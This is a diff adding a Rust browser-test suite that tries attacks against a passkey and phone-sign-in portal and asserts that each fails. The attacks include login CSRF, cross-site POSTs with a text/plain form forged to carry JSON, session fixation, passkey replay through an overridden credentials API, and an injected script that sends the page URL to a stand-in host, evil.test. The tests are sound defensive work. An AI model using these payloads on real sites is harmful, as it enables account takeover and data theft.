@@ -1,0 +1,296 @@
+//! Attacks on the portal and its visitors, in the browser.
+
+use autharmor::ApiVersion::V4;
+use autharmor_test_support::browser::{serve_empty_page, wait_for};
+use serde_json::{Value, json};
+
+use crate::site::{ADA, EVE, Site, Visitor};
+
+const GONE: &str = "it began in another browser";
+
+/// A site with an account for the attacker, too.
+fn site_with_eve() -> Site {
+    let site = Site::start(V4);
+    site.emulator.add_user(EVE).unwrap();
+    site
+}
+
+/// The user of a visitor's session, as the server sees it.
+fn user(visitor: &Visitor) -> String {
+    let script = "const done = arguments[0];
+        fetch('/account', { method: 'POST', body: '{}' })
+            .then(async (response) => done((await response.json()).name ?? ''), done);";
+    visitor
+        .0
+        .run_async(script, &[])
+        .as_str()
+        .unwrap()
+        .to_owned()
+}
+
+/// Login CSRF: the attacker's link, in the victim's browser, would sign the victim
+/// in as the attacker.
+pub(crate) fn a_link_of_an_attacker_signs_nobody_in() {
+    let site = site_with_eve();
+    let eve = site.open("/");
+    eve.ask_for_link(EVE);
+    let link = site.opened_link();
+    // A victim without a session, one who has begun, and one who is signed in.
+    let stranger = site.open("/");
+    let begun = site.open("/");
+    begun.ask_for_link(ADA);
+    let own_link = site.opened_link();
+    let ada = site.open_as_ada();
+    for (victim, told, name) in [
+        (&stranger, GONE, ""),
+        (&begun, "open the newest link", ""),
+        (&ada, GONE, ADA),
+    ] {
+        victim.visit_url(&link);
+        victim.press("Sign in");
+        victim.is_told(told);
+        assert_eq!(user(victim), name);
+    }
+    // What the victim has begun goes on.
+    begun.visit_url(&own_link);
+    begun.press("Sign in");
+    begun.sees_account_of(ADA);
+}
+
+/// Posts by a form and by scripts, and tries to read and to frame the portal.
+const OTHER_SITE: &str = r"
+    const [base, done] = arguments;
+    const attack = async () => {
+        const readable = [];
+        const bodies = {
+            '/phone': { name: 'ada@example.com' }, '/link': { name: 'eve@example.com' },
+            '/passkey': { name: '' }, '/register': { name: 'new@example.com' },
+            '/continue': { id: 'link', input: '' }, '/log-out': {}, '/account': {},
+            '/account/phone': {}, '/account/passkey': {}, '/account/disable': { credential: 'x' },
+        };
+        for (const [path, value] of Object.entries(bodies)) {
+            const body = JSON.stringify(value);
+            for (const mode of ['cors', 'no-cors']) {
+                for (const type of ['text/plain', 'application/json']) {
+                    const request = { method: 'POST', mode, body, credentials: 'include',
+                        headers: { 'Content-Type': type } };
+                    const got = await fetch(base + path, request).catch(() => null);
+                    if (got && got.type !== 'opaque') readable.push(path + ' ' + await got.text());
+                }
+            }
+            navigator.sendBeacon(base + path, body);
+            const form = document.createElement('form');
+            Object.assign(form, { method: 'POST', action: base + path, enctype: 'text/plain', target: 'x' });
+            const field = document.createElement('input');
+            field.name = body.slice(0, -1) + (body === '{}' ? '' : ',') + '\x22x\x22:\x22';
+            field.value = '\x22}';
+            form.append(field);
+            const frame = document.createElement('iframe');
+            frame.name = 'x';
+            document.body.append(frame, form);
+            form.submit();
+            await new Promise((loaded) => { frame.onload = loaded; setTimeout(loaded, 2000); });
+            frame.remove();
+        }
+        const frame = document.createElement('iframe');
+        frame.src = base + '/account';
+        document.body.append(frame);
+        await new Promise((loaded) => { frame.onload = loaded; setTimeout(loaded, 2000); });
+        return readable;
+    };
+    attack().then(done, (error) => done(['FAILED: ' + error]));
+";
+
+pub(crate) fn another_site_posts_no_form_and_reads_nothing() {
+    let site = Site::start(V4);
+    let ada = site.open_as_ada();
+    let before = site.emulator.request_count();
+    let port = serve_empty_page();
+    // Another port of the same host is another origin, but not another site: the
+    // browser sends the cookie.
+    for host in ["evil.test", "localhost"] {
+        ada.visit_url(&format!("http://{host}:{port}/"));
+        let readable = ada.0.run_async(OTHER_SITE, &[&site.origin]);
+        assert_eq!(readable, json!([]), "{host}");
+        let frame = json!({"using": "css selector", "value": "iframe"});
+        let frame = ada.0.post("element", &frame);
+        ada.0.post("frame", &json!({ "id": frame }));
+        assert!(!ada.text().contains("Your account"), "{}", ada.text());
+        ada.0.post("frame", &json!({ "id": null }));
+    }
+    assert_eq!(site.emulator.request_count(), before);
+    ada.visit(&site, "/account");
+    ada.sees_account_of(ADA);
+}
+
+/// Session fixation: the attacker knows the id of the session in which the victim
+/// signs in.
+pub(crate) fn a_planted_session_is_of_no_use() {
+    let site = Site::start(V4);
+    let eve = site.open("/");
+    eve.ask_phone(EVE);
+    let planted = eve.session().unwrap()["value"].clone();
+    let ada = site.open("/");
+    // An id that the server made, and one that it did not.
+    for id in [planted, json!("made-up-by-the-attacker")] {
+        ada.0.post(
+            "cookie",
+            &json!({"cookie": {"name": "session", "value": id}}),
+        );
+        ada.ask_for_link(ADA);
+        ada.visit_url(&site.opened_link());
+        ada.press("Sign in");
+        ada.sees_account_of(ADA);
+        assert_ne!(ada.session().unwrap()["value"], id);
+        eve.0.post(
+            "cookie",
+            &json!({"cookie": {"name": "session", "value": id}}),
+        );
+        assert_eq!(user(&eve), "");
+        ada.log_out();
+    }
+    // After logging out the id is of no use either.
+    let ada = site.open_as_ada();
+    let old = ada.session().unwrap()["value"].clone();
+    ada.log_out();
+    eve.0.post(
+        "cookie",
+        &json!({"cookie": {"name": "session", "value": old}}),
+    );
+    assert_eq!(user(&eve), "");
+}
+
+/// Records what the page sends, across pages.
+const RECORD: &str = "const fetch = window.fetch;
+    window.fetch = (path, request) => {
+        localStorage.setItem('sent ' + path, request?.body);
+        return fetch(path, request);
+    };";
+
+pub(crate) fn a_passkey_cannot_be_replayed() {
+    let site = Site::start(V4);
+    let ada = site.open_as_ada();
+    ada.add_passkey();
+    ada.log_out();
+    ada.0.run(RECORD, &[]);
+    ada.press("Use a passkey");
+    ada.sees_account_of(ADA);
+    let sent = ada
+        .0
+        .run("return localStorage.getItem('sent /continue')", &[]);
+    let sent: Value = serde_json::from_str(sent.as_str().unwrap()).unwrap();
+    assert!(sent["input"].as_str().unwrap().contains("signature"));
+    ada.log_out();
+    // In the same browser, in another, and in a sign-in that another has begun.
+    let eve = site.open("/");
+    for visitor in [&ada, &eve] {
+        let (status, text) = visitor.posts("/continue", &sent);
+        assert!(status == 409 && text.contains(GONE), "{status} {text}");
+    }
+    eve.0.run(RECORD, &[]);
+    let stolen = sent["input"].as_str().unwrap();
+    let instead = "PublicKeyCredential.prototype.toJSON = null;
+        navigator.credentials.get = async () => JSON.parse(arguments[0])";
+    eve.0.run(instead, &[stolen]);
+    eve.press("Use a passkey");
+    eve.is_told("That did not work. Please begin again.");
+    assert_eq!(user(&eve), "");
+}
+
+pub(crate) fn what_another_browser_began_cannot_be_continued() {
+    let site = Site::start(V4);
+    let ada = site.open("/");
+    ada.0.run(RECORD, &[]);
+    ada.ask_phone(ADA);
+    let sent = wait_for("a poll", || {
+        let sent = ada
+            .0
+            .run("return localStorage.getItem('sent /continue')", &[]);
+        sent.as_str().map(str::to_owned)
+    });
+    let sent: Value = serde_json::from_str(&sent).unwrap();
+    let eve = site.open("/");
+    // Also while she has begun something herself.
+    for begins in [false, true] {
+        if begins {
+            eve.ask_phone(EVE);
+        }
+        let (status, text) = eve.posts("/continue", &sent);
+        assert!(status == 409 && text.contains(GONE), "{status} {text}");
+    }
+    site.respond_on_phone(true);
+    ada.sees_account_of(ADA);
+    assert_eq!(eve.posts("/continue", &sent).0, 409);
+    assert_eq!(user(&eve), "");
+}
+
+/// A name without an account gets the request of nobody, which anybody can approve.
+pub(crate) fn a_decoy_signs_nobody_in() {
+    let site = Site::start(V4);
+    let eve = site.open("/");
+    eve.ask_phone(EVE);
+    let decoy = site.emulator.pending_requests().pop().unwrap();
+    site.emulator
+        .approve_as(decoy.auth_request_id, ADA)
+        .unwrap();
+    eve.is_told("That did not work. Please begin again.");
+    assert_eq!(user(&eve), "");
+
+    let ada = site.open_as_ada();
+    ada.add_passkey();
+    ada.log_out();
+    ada.0.fill("#name", EVE);
+    ada.press("Use a passkey");
+    ada.is_told("That did not work. Please begin again.");
+    assert_eq!(user(&ada), "");
+}
+
+pub(crate) fn scripts_cannot_read_the_session() {
+    let site = Site::start(V4);
+    let ada = site.open_as_ada();
+    assert_eq!(ada.0.run("return document.cookie", &[]), "");
+    let cookie = ada.session().unwrap();
+    assert_eq!(
+        (&cookie["httpOnly"], &cookie["sameSite"]),
+        (&json!(true), &json!("Lax"))
+    );
+    // The token of a link is not kept in the history, and goes to no other host.
+    let script = "const done = arguments[0]; fetch(location).then((response) =>
+        done(['referrer-policy', 'cache-control'].map((name) => response.headers.get(name))));";
+    assert_eq!(
+        ada.0.run_async(script, &[]),
+        json!(["no-referrer", "no-store"])
+    );
+}
+
+/// The policy forbids what an injected text could do.
+pub(crate) fn no_script_of_a_page_runs() {
+    let site = Site::start(V4);
+    let ada = site.open("/");
+    let script = r#"
+        const done = arguments[0];
+        const refused = new Set();
+        addEventListener("securitypolicyviolation", (event) => {
+            refused.add(event.effectiveDirective);
+            if (refused.size === 5) done([...refused].sort());
+        });
+        const add = (tag, values) => document.body.append(
+            Object.assign(document.createElement(tag), values));
+        try { document.body.innerHTML += "<b>markup</b>"; } catch { }
+        try { document.body.setAttribute("onclick", "document.title = 'owned'"); } catch { }
+        add("img", { src: "http://evil.test/pixel" });
+        add("iframe", { src: "http://evil.test/" });
+        add("style", { textContent: "body { display: none }" });
+        fetch("http://evil.test/" + location).catch(() => {});
+        setTimeout(() => done([...refused].sort()), 10000);
+    "#;
+    let refused = ada.0.run_async(script, &[]);
+    let expected = [
+        "connect-src",
+        "frame-src",
+        "img-src",
+        "require-trusted-types-for",
+        "style-src-elem",
+    ];
+    assert_eq!(refused, json!(expected));
+}
